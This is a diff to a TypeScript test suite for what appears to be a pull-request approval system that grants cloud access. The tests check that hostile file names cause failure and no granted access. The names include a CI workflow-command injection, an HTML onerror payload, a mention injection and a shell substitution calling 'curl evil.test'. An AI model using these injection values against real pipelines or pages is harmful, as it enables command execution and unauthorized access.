@@ -62,7 +62,11 @@ const FILES: readonly (readonly [what: string, make: Make, finding: string])[] =
   ['a name in one form of Unicode', only('requests/caf\u00e9.yaml'), 'pull.path'],
   ['the same name in the other form', only('requests/cafe\u0301.yaml'), 'pull.path'],
   ['a folder with a joiner in it', only('req\u200duests/a.yaml'), 'pull.path'],
-  ['a name of two lines, of which one is a command', only(`requests/a\n${COMMAND}.yaml`), 'pull.path'],
+  [
+    'a name of two lines, of which one is a command',
+    only(`requests/a\n${COMMAND}##[set-output name=act;]merge.yaml`),
+    'pull.path',
+  ],
   ['HTML for a name', only('requests/<img src=x onerror=alert(1)>.yaml'), 'pull.path'],
   ['a mention and a reference for a name', only('requests/@everyone closes #1.yaml'), 'pull.path'],
   ['a shell’s substitution for a name', only('requests/$(curl evil.test)`id`;x.yaml'), 'pull.path'],
@@ -196,7 +200,7 @@ describe('a pull request', () => {
     const pull = await fileAs(scenario, 'alice', { branch: 'alice/folder', entries });
     await judgeAll(scenario, [pull]);
     expect((await headStatus(scenario.outside, pull)).state).toBe('failure');
-  });
+  }, 120_000);
 
   it.each<readonly [string, readonly Entry[]]>([
     [
@@ -254,7 +258,7 @@ describe('a pull request', () => {
     expectNoCommand(log);
     expect(await access(scenario)).toEqual(NOTHING);
     await scenario.outside.gitHub('alice', 'PATCH', `/pulls/${pull}`, { state: 'closed' });
-  });
+  }, 120_000);
 
   it('whose elevation Azure refuses in hostile words opens nothing, and the words command nobody', async () => {
     const pull = await askApprovedAndMerged(scenario, 'refused-azure');
